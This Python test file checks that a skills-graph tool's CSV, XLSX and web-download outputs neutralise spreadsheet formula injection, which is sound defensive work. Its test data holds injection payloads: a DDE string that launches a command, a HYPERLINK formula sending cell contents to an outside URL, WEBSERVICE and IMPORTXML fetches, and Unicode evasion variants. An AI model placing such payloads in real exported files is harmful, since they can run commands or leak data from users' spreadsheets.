"""No cell of a table that is written runs as a formula, on whichever way it was asked for."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pyoxigraph as ox
import pytest
from hypothesis import given
from hypothesis import strategies as st
from payloads import graph
from served import Served, served

from sfia_graph.cli import main
from sfia_graph.errors import Place
from sfia_graph.report import Report
from sfia_graph.report_files import to_csv
from sfia_graph.results import Rows
from sfia_graph.spreadsheet import at_rest, guarded, harmless, runs, unguarded

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blanks": "  =1+1",
    "no-break blank": "\u00a0=1+1",
    "nothing to be seen": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "leftward": "\u202e=1+1",
    "isolated": "\u2066=1+1",
    "control": "\x01=1+1",
    "wide equals": "\uff1d1+1",
    "wide plus": "\uff0b1",
    "wide minus": "\uff0d1",
    "wide at": "\uff20SUM(1)",
    "small equals": "\ufe661+1",
    "exchange": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://example.org/?x="&A1)',
    "fetched": '=WEBSERVICE("https://example.org/")',
    "imported": '=IMPORTXML("https://example.org/","//a")',
    "quoted": '="a"',
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_a_text_that_would_run_is_told(text: str) -> None:
    assert runs(text)
    assert not runs(guarded(text))
    assert unguarded(guarded(text)) == text
    assert at_rest(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "1+1", "a=1", "'=1+1", "Fish & chips", "日本", "(=1)", "a\n=1"]
)
def test_what_does_not_run_stays_as_it_is(text: str) -> None:
    assert (runs(text), at_rest(text)) == (False, text)


@pytest.mark.parametrize("number", ["-1", "+1", "-1.5", "-1,5", "+3%", "-", "--"])
def test_a_number_of_somebody_is_no_formula(number: str) -> None:
    assert at_rest(number) == number


@given(st.text(st.sampled_from("'=+-@ \t\r\na1\u200b") | st.characters(exclude_categories=["Cs"])))
def test_every_text_comes_back_and_none_runs(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not runs(guarded(text))
    assert not runs(at_rest(text)) or at_rest(text).strip("+-0123456789.,%") == ""


def _runs(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return runs(cell)
    return False


def _cells(written: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]


TYPED = tuple(
    ox.Literal("=1+1", datatype=ox.NamedNode(f"http://www.w3.org/2001/XMLSchema#{name}"))
    for name in ("integer", "decimal", "double", "boolean", "date", "anyURI", "duration")
)


@pytest.mark.parametrize("term", TYPED, ids=str)
def test_a_text_that_calls_itself_a_number_is_none(term: ox.Literal) -> None:
    assert harmless(Rows(("x",), ((term,),))).values() == [("'=1+1",)]


def _written(rows: list[list[str]]) -> str:
    held = io.StringIO(newline="")
    csv.writer(held).writerows(rows)
    return held.getvalue()


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formulas") / "data.nt"
    path.write_bytes(graph([*FORMULAS.values()]))
    return path


@pytest.mark.parametrize(
    "words",
    [
        ["query", "skills-at-level", "level=4"],
        ["query", "search", "words=sum"],
        ["sparql", "-"],
        ["diff", "8", "9"],
    ],
    ids=lambda words: words[0] + words[1],
)
def test_an_answer_in_csv_holds_no_formula(
    words: list[str],
    store: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    query = "SELECT ?s ?text WHERE { ?s skos:prefLabel|skos:definition ?text }"
    monkeypatch.setattr("sys.stdin", io.StringIO(query))
    assert main([*words, "--store", str(store), "--format", "csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    assert len(cells) > 30
    assert [each for each in cells if _runs(each)] == []
    assert [each for each in cells if each.startswith("'")]


def test_other_formats_have_texts_as_they_are(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["query", "skills-at-level", "level=4", "--store", str(store), "--format"]
    for form in ("tsv", "json", "xml"):
        assert main([*words, form]) == 0
        found = capsys.readouterr().out
        assert "=1+1" in found
        assert "'=1+1" not in found


def test_an_import_report_holds_no_formula() -> None:
    report = Report()
    for text in FORMULAS.values():
        report.repair("outer-blank", Place(text, sheet=text, row=1, column=text), text, text)
    cells = _cells(to_csv(report))
    assert [each for each in cells if _runs(each)] == []
    assert {unguarded(each) for each in cells} >= set(FORMULAS.values())


@pytest.fixture(scope="module")
def sheets(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sheets")
    texts = [each for each in FORMULAS.values() if each.strip() == each and each.isprintable()]
    heads = ["role", "skill", "level", "importance", "title", "note"]
    roles = [heads, *(["tester", "TEST", "3", "core", text, text] for text in texts)]
    roles[2:] = [[f"r{n}", *row[1:]] for n, row in enumerate(roles[2:])]
    people = [["person", "skill", "level", "basis", "date", "team", "name"]]
    people += [
        [f"{text} {n}", "TEST", "4", "assessed", "2026-01-01", "", f"{text} {n}"]
        for n, text in enumerate(texts)
    ]
    for name, rows in (("roles.csv", roles), ("people.csv", people)):
        (folder / name).write_text(_written(rows), encoding="utf-8", newline="")
    return folder


def test_a_sheet_that_is_carried_over_holds_no_formula(sheets: Path) -> None:
    words = ["migrate", str(sheets / "roles.csv"), "--from", "8", "--to", "9"]
    table, book = sheets / "new.csv", sheets / "new.xlsx"
    assert [main([*words, "-o", str(out)]) for out in (table, book)] == [0, 0]
    cells = _cells(table.read_text(encoding="utf-8"))
    assert [each for each in cells if _runs(each)] == []
    sheet = openpyxl.load_workbook(book).worksheets[0]
    texts = [cell for row in sheet.iter_rows() for cell in row if runs(str(cell.value))]
    assert len(texts) > 10
    assert {(cell.data_type, cell.quotePrefix) for cell in texts} == {("s", True)}


def test_roles_and_people_are_written_without_formulas(
    sheets: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out, key = sheets / "all.ttl", sheets / "all.key.csv"
    files = [str(sheets / "roles.csv"), str(sheets / "people.csv")]
    assert main(["profile", "import", *files, "-o", str(out)]) == 0
    capsys.readouterr()
    assert [each for each in _cells(key.read_text(encoding="utf-8")) if _runs(each)] == []
    for kind in ("roles", "people"):
        words = ["profile", "export", kind, "--store", str(out), "--key", str(key)]
        assert main(words) == 0
        cells = _cells(capsys.readouterr().out)
        assert [each for each in cells if _runs(each)] == []
        assert len(cells) > 50
    book = sheets / "all.xlsx"
    assert main(["profile", "export", "--store", str(out), "--key", str(key), "-o", str(book)]) == 0
    for sheet in openpyxl.load_workbook(book).worksheets:
        texts = [cell for row in sheet.iter_rows() for cell in row if runs(str(cell.value))]
        assert {(cell.data_type, cell.quotePrefix) for cell in texts} <= {("s", True)}


@pytest.fixture(scope="module")
def site(store: Path) -> Iterator[Served]:
    with served("--store", str(store)) as found:
        yield found


def test_no_download_of_a_site_holds_a_formula(site: Served) -> None:
    page = site.ask("/downloads.en.html").text
    paths = set(re.findall(r'href="(/[^"]+\.(?:csv|xlsx|zip))"', page))
    codes = [f"/9/skill/{code}.csv" for code in ("XAAX", "XALX", "XATX")]
    assert {Path(each).suffix for each in paths} == {".csv", ".xlsx", ".zip"}
    for path in (
        *paths,
        *codes,
        "/query/skills-at-level.csv?level=4",
        "/query/search.csv?words=sum",
    ):
        reply = site.ask(path)
        assert reply.status == 200, path
        for cells in _of(path, reply.body):
            assert [each for each in cells if _runs(each)] == [], path


def _of(path: str, body: bytes) -> Iterator[list[str]]:
    suffix = Path(urlsplit(path).path).suffix
    if suffix == ".csv":
        yield _cells(body.decode())
    if suffix == ".zip":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    yield _cells(archive.read(name).decode())
    if suffix == ".xlsx":
        for sheet in openpyxl.load_workbook(io.BytesIO(body)).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row]
            yield [str(cell.value) for cell in cells if cell.data_type == "f"]
            quoted = {cell.quotePrefix for cell in cells if runs(str(cell.value))}
            assert quoted <= {True}
